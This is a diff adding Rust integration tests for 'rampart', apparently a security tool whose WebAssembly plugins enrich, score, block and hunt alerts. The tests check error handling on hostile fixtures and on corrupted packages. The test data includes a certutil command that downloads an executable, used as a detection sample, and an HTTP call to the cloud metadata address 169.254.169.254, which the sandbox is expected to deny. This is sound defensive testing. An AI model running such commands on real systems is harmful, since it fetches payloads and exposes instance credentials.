@@ -1,0 +1,179 @@
+//! `rampart plugin inspect` and `rampart plugin call` on every plugin and on
+//! the hostile fixtures: results on success, a specific error and a non-zero
+//! exit on failure, never a panic. Needs `cargo xtask plugins` first.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use std::path::PathBuf;
+use std::process::{Command, Output};
+
+fn plugins() -> PathBuf {
+    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../target/plugins");
+    assert!(
+        dir.join("risk-scorer.wasm").is_file(),
+        "run `cargo xtask plugins` first"
+    );
+    dir
+}
+
+fn examples() -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../examples")
+}
+
+fn rampart(args: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_rampart"))
+        .args(args)
+        .output()
+        .expect("run rampart")
+}
+
+fn text(bytes: &[u8]) -> String {
+    String::from_utf8_lossy(bytes).into_owned()
+}
+
+#[test]
+fn inspect_reports_every_plugin() {
+    for (name, kind) in [
+        ("ip-reputation", "enricher"),
+        ("risk-scorer", "scorer"),
+        ("edl-blocklist", "responder"),
+        ("cmdline-hunt", "hunt"),
+    ] {
+        let out = rampart(&[
+            "plugin",
+            "inspect",
+            plugins().join(format!("{name}.wasm")).to_str().unwrap(),
+        ]);
+        assert!(out.status.success(), "{name}: {}", text(&out.stderr));
+        let report: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
+        assert_eq!(report["kind"], kind, "{name}");
+        assert_eq!(report["wit_package"], "rampart:plugin@0.1.0", "{name}");
+        assert_eq!(report["sha256"].as_str().map(str::len), Some(64));
+        assert!(!report["exports"].as_array().unwrap().is_empty());
+    }
+}
+
+#[test]
+fn call_runs_every_plugin() {
+    let alert = format!(
+        "@{}",
+        examples().join("alerts/ssh-bruteforce.json").display()
+    );
+    let action = format!("@{}", examples().join("actions/block-ip.json").display());
+    let ipsum = examples().join("data/ipsum/ipsum.txt");
+    let hunt_input = r#"{"params": {}, "events": [{"id": "e1", "time": 1, "data": {"CommandLine": "certutil -urlcache -f http://x/a.exe a.exe"}}]}"#;
+    let cases: Vec<(&str, Vec<&str>)> = vec![
+        (
+            "ip-reputation",
+            vec!["--input", &alert, "--intel-ipsum", ipsum.to_str().unwrap()],
+        ),
+        ("risk-scorer", vec!["--input", &alert]),
+        ("edl-blocklist", vec!["--input", &action]),
+        ("cmdline-hunt", vec!["--input", hunt_input]),
+    ];
+    for (name, extra) in cases {
+        let manifest = plugins().join(format!("{name}.toml"));
+        let mut args = vec!["plugin", "call", manifest.to_str().unwrap()];
+        args.extend(extra);
+        let out = rampart(&args);
+        assert!(out.status.success(), "{name}: {}", text(&out.stderr));
+        let result: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
+        assert!(!result["value"].is_null(), "{name}: {result}");
+        assert!(
+            result["stats"]["fuel"].as_u64().unwrap_or(0) > 0,
+            "{name}: {result}"
+        );
+    }
+}
+
+#[test]
+fn call_on_hostile_fixtures_fails_specifically() {
+    let hostile = plugins().join("fixtures/hostile.toml");
+    for (title, expect) in [
+        ("loop", "deadline of"),
+        ("oom", "out of memory"),
+        ("panic", "hostile plugin panics on purpose"),
+        ("recurse", "call stack exhausted"),
+        ("huge-output", "invalid output"),
+        ("http http://169.254.169.254/", "capability denied"),
+    ] {
+        let input = format!(r#"{{"id": "h", "source": "test", "title": "{title}"}}"#);
+        let out = rampart(&[
+            "plugin",
+            "call",
+            hostile.to_str().unwrap(),
+            "--allow-http",
+            "169.254.169.254",
+            "--input",
+            &input,
+        ]);
+        let stderr = text(&out.stderr);
+        assert_eq!(out.status.code(), Some(4), "{title}: {stderr}");
+        assert!(stderr.contains(expect), "{title}: {stderr}");
+        assert!(
+            !stderr.contains("panicked at"),
+            "{title}: the host panicked: {stderr}"
+        );
+    }
+}
+
+#[test]
+fn call_refuses_bad_packages_with_exit_3() {
+    let dir = tempfile::tempdir().unwrap();
+    let future = plugins().join("fixtures/future-major.toml");
+    let out = rampart(&["plugin", "call", future.to_str().unwrap(), "--input", "{}"]);
+    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
+    assert!(
+        text(&out.stderr).contains("rampart:plugin@1.0.0"),
+        "{}",
+        text(&out.stderr)
+    );
+
+    let manifest = std::fs::read_to_string(plugins().join("risk-scorer.toml")).unwrap();
+    std::fs::write(dir.path().join("risk-scorer.toml"), &manifest).unwrap();
+    let wasm = std::fs::read(plugins().join("risk-scorer.wasm")).unwrap();
+    std::fs::write(dir.path().join("risk-scorer.wasm"), &wasm[..wasm.len() / 2]).unwrap();
+    let out = rampart(&[
+        "plugin",
+        "call",
+        dir.path().join("risk-scorer.toml").to_str().unwrap(),
+        "--input",
+        "{}",
+    ]);
+    assert_eq!(out.status.code(), Some(3));
+    assert!(
+        text(&out.stderr).contains("sha256 mismatch"),
+        "{}",
+        text(&out.stderr)
+    );
+
+    std::fs::write(
+        dir.path().join("core.wasm"),
+        wat::parse_str("(module)").unwrap(),
+    )
+    .unwrap();
+    let out = rampart(&[
+        "plugin",
+        "inspect",
+        dir.path().join("core.wasm").to_str().unwrap(),
+    ]);
+    assert_eq!(out.status.code(), Some(3));
+    assert!(
+        text(&out.stderr).contains("core WebAssembly module, not a component"),
+        "{}",
+        text(&out.stderr)
+    );
+
+    let out = rampart(&[
+        "plugin",
+        "call",
+        plugins().join("risk-scorer.toml").to_str().unwrap(),
+        "--input",
+        "{not json",
+    ]);
+    assert_eq!(out.status.code(), Some(2));
+    assert!(
+        text(&out.stderr).contains("--input is not JSON"),
+        "{}",
+        text(&out.stderr)
+    );
+}
